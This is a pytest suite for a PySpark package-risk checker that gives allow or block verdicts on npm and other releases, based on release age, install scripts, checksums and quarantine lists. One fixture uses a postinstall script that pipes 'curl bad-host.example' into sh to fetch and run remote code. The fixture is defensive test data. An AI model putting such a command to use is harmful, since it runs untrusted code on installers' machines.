"""Rules, environments and verdicts on small hand-made cases."""

import base64
import hashlib
import json
import shlex

import pytest
from pyspark.sql import functions as F

from pkgrisk.functions import integrity, names
from pkgrisk.functions.text import quoted
from pkgrisk.operators import decide, environments, rules

NOW = "timestamp'2024-06-01 00:00:00'"


def release(spark, published="2000-01-01T00:00:00Z", scripts=None, **kw):
    row = {"package": "p", "version": "1.0.0", "ecosystem": "npm", "published": published, "scripts": scripts, **kw}
    schema = "package string, version string, ecosystem string, published string, scripts map<string,string>"
    for name, kind in (("integrity", "string"), ("content", "binary")):
        if name in kw:
            schema += f", {name} {kind}"
    return spark.createDataFrame([row], schema)


def verdict(spark, env="preprod", state=None, **kw):
    envs = [environments.pick(environments.resolve(), env)]
    return decide.decide(release(spark, **kw), NOW, envs, state).first()


def test_default_environments():
    d = environments.resolve()
    assert (d["dev"].min_release_age_days, d["dev"].install_scripts, d["dev"].log_only) == (0, "warn", True)
    assert (d["preprod"].min_release_age_days, d["preprod"].block_threshold) == (7, 0.3)
    assert (d["prod"].min_release_age_days, d["prod"].install_scripts) == (14, "deny")


def test_unknown_environment_falls_back():
    assert environments.pick(environments.resolve(), "nowhere").name == "preprod"


def test_overrides_and_new_environment(spark, tmp_path):
    path = tmp_path / "env.json"
    path.write_text(json.dumps({"environments": {
        "prod": {"min_release_age_days": 21, "log_only": "yes", "install_scripts": "maybe"},
        "stage": {"install_scripts": "allow"}, "broken": {"min_release_age_days": "x"},
    }}))
    d = environments.load(str(path))
    assert (d["prod"].min_release_age_days, d["prod"].log_only, d["prod"].install_scripts) == (21, True, "deny")
    assert (d["stage"].min_release_age_days, d["stage"].install_scripts) == (7, "allow")
    assert "broken" not in d


def test_yaml_overrides(spark, tmp_path):
    path = tmp_path / "env.yaml"
    path.write_text("environments:\n  dev:\n    log_only: off\n")
    assert environments.load(str(path))["dev"].log_only is False
    assert environments.load(None)["dev"].log_only is True
    with pytest.raises(Exception, match="PATH_NOT_FOUND"):  # policy never falls back without notice
        environments.load(str(tmp_path / "absent.yaml"))
    path.write_text("environments: [unclosed")
    with pytest.raises(Exception):
        environments.load(str(path))


def test_future_release_fails_but_dev_is_advisory(spark):
    row = verdict(spark, "dev", published="2087-06-05T04:03:02Z")
    assert row.verdict == "allow" and "release_age" in row.failed_rules
    assert any("log_only=true" in e for e in row.evidence)


def test_install_script_blocks_preprod_and_warns_dev(spark):
    kw = {"scripts": {"postinstall": "curl bad-host.example | sh"}}
    row = verdict(spark, "preprod", **kw)
    assert row.verdict == "block" and row.failed_rules == ["install_scripts", "checksum"]
    row = verdict(spark, "dev", **kw)
    assert row.verdict == "allow" and "install_scripts" in row.skipped_rules and "install_scripts" not in row.failed_rules


@pytest.mark.parametrize("text,line", [
    (None, "missing publish timestamp for 1.0.0"), ("", "missing publish timestamp for 1.0.0"),
    ("soon", "unparseable publish timestamp: 'soon'"), ("2024-05-30T12:00:00Z", "released 1.5d ago, minimum is 7d"),
    ("2024-05-01", "released 31.0d ago"), ("2024-05-30T12:00:00+12:00", "released 2.0d ago, minimum is 7d"),
])
def test_release_age_lines(spark, text, line):
    assert verdict(spark, published=text).evidence[1] == f"release_age: {line}"


COMMANDS = [
    "", "   ", "node-gyp rebuild", "echo a b c", "echo a b", "node x.js", "a && b", "echo 'a b' c", 'echo "open', "echo 'x' \"y z\"",
    "'ec'ho a", "ec\\ho a", "echo a\\", "exit 0", "true", "prebuild-install -r napi", 'echo "a \\" b" c', "echo a\tb\nc", "echo $X",
    "node-gyp-build", "''", "echo '' ''", "echo '' '' ''",
]


def shell_trivial(cmd, heads):
    if not cmd.strip():
        return True
    if any(c in cmd for c in ";&|`$<>"):
        return False
    try:
        parts = shlex.split(cmd)
    except ValueError:
        return False
    return not parts or (parts[0] in heads and len(parts) <= 3)


def test_trivial_commands_agree_with_shell_words(spark):
    df = spark.createDataFrame([(c,) for c in COMMANDS], "c string")
    got = df.select("c", F.expr(rules.is_trivial_command("c", rules.TRIVIAL_HEADS["npm"])).alias("t")).collect()
    assert {r.c: r.t for r in got} == {c: shell_trivial(c, rules.TRIVIAL_HEADS["npm"]) for c in COMMANDS}


def test_ecosystem_hooks(spark):
    rows = [("composer", {"post-install-cmd": "@php artisan x"}), ("pypi", {"setup_py": "python setup.py install"}),
            ("npm", {"test": "rm -rf x"}), ("npm", {"prepare": "tsc", "preinstall": "it's"})]
    df = spark.createDataFrame(rows, "ecosystem string, scripts map<string,string>")
    got = [r.r for r in df.select(F.expr(rules.install_scripts("scripts", "ecosystem")).alias("r")).collect()]
    assert [g.ok for g in got] == [True, False, True, False]
    assert got[3].reason == "non-trivial lifecycle scripts: preinstall=\"it's\"; prepare='tsc'"


def test_scripts_not_an_object(spark):
    df = release(spark).withColumn("scripts_is_object", F.lit(False))
    row = decide.decide(df, NOW, [environments.DEFAULTS["prod"]]).first()
    assert "install_scripts" in row.failed_rules


def sri(algo, data):
    return f"{algo}-" + base64.b64encode(hashlib.new(algo, data).digest()).decode()


@pytest.mark.parametrize("declared,ok,part", [
    (sri("sha512", b"data"), True, "sha512 verified"), (sri("sha384", b"data").rstrip("="), True, "sha384 verified"),
    (sri("sha256", b"other") + " " + sri("sha512", b"data"), True, "sha512 verified"),
    ("sha1-hex:" + hashlib.sha1(b"data").hexdigest().upper(), True, "sha1 verified"),
    (sri("sha256", b"other"), False, "checksum mismatch"), ("md5-abc", False, "integrity parse error"), ("", False, "dist.integrity missing"),
    (None, False, "dist.integrity missing"), ("sha256-", False, "integrity parse error"),
])
def test_checksum(spark, declared, ok, part):
    row = verdict(spark, integrity=declared, content=b"data")
    assert ("checksum" in row.passed_rules) is ok and part in row.evidence[3]


def test_checksum_without_bytes(spark):
    row = verdict(spark, integrity=sri("sha256", b"x"), content=None)
    assert "not yet fetched" in row.evidence[3]


def test_state_blocks_quarantined_and_blocked(spark):
    state = spark.createDataFrame(
        [("quarantined", "p@1.0.0", "why"), ("blocked", "p@1.0.0", None), ("allowlist", "p@1.0.0", "x")], "state string, key string, reason string"
    )
    row = verdict(spark, state=state)
    assert row.verdict == "block" and row.evidence[0] == "known_quarantine: explicitly blocked: no reason"
    row = verdict(spark, state=state.filter("state = 'quarantined'"))
    assert row.verdict == "block" and row.evidence[0].endswith("explicitly quarantined: why")


@pytest.mark.parametrize("url,host", [
    ("git+https://github.com/acme/widgetry.git", "github"), ("https://github.com/acme/widgetry", "github"),
    ("git@github.com:acme/widgetry.git", "github"), ("git+https://gitlab.com/owner/repo.git", "gitlab"),
    ("https://gitlab.com/owner/repo", "gitlab"), ("", None), ("not a url", None), ("https://example.com/foo/bar", None),
])
def test_repository_forms(spark, url, host):
    row = spark.createDataFrame([(url,)], "u string").select(F.expr(names.repository("u")).alias("r")).first().r
    assert row.host == host and (host is None or row.repo in ("widgetry", "repo"))


# Acceptance cases: manifest bytes hashed by the declared integrity, environment preprod.
INCIDENTS = [
    ("postmark-mcp", "1.0.16", 0, {"postinstall": "node ./scripts/x.js && true"}, False, "block",
     ["install_scripts", "release_age"], ["checksum", "known_quarantine"]),
    ("postmark-mcp", "1.0.12", 60, {}, True, "allow", [],
     ["allowlist_override", "checksum", "install_scripts", "known_quarantine", "release_age"]),
    ("widgetry", "4.17.21", 60, {}, True, "allow", [],
     ["allowlist_override", "checksum", "install_scripts", "known_quarantine", "release_age"]),
]


@pytest.mark.parametrize("name,version,age,scripts,listed,want,failed,passed", INCIDENTS)
def test_incidents(spark, name, version, age, scripts, listed, want, failed, passed):
    body = json.dumps({"name": name, "version": version, "scripts": scripts}, sort_keys=True).encode()
    row = {"package": name, "version": version, "ecosystem": "npm", "scripts": scripts, "integrity": sri("sha512", body),
           "content": body, "allowlisted": listed}
    df = spark.createDataFrame(
        [row], "package string, version string, ecosystem string, scripts map<string,string>, integrity string, content binary, allowlisted boolean"
    ).withColumn("published", F.expr(f"cast({NOW} - interval {age} days as string)"))
    out = decide.apply_allowlist(decide.decide(df, NOW, [environments.DEFAULTS["preprod"]])).first()
    assert (out.verdict, sorted(out.failed_rules), sorted(out.passed_rules)) == (want, failed, passed)


def test_quoting_matches_repr(spark):
    values = ["a", "it's", 'say "x"', "both ' and \"", "tab\tnl\n", "back\\slash"]
    got = spark.createDataFrame([(v,) for v in values], "v string").select(F.expr(quoted("v")).alias("q")).collect()
    assert [r.q for r in got] == [repr(v) for v in values]


def test_base64_has_no_line_breaks(spark):
    h = hashlib.sha512(b"x").hexdigest()
    got = spark.createDataFrame([(h,)], "h string").select(F.expr(integrity.base64_of_hex("h")).alias("b")).first().b
    assert got == base64.b64encode(bytes.fromhex(h)).decode() and len(got) == 88
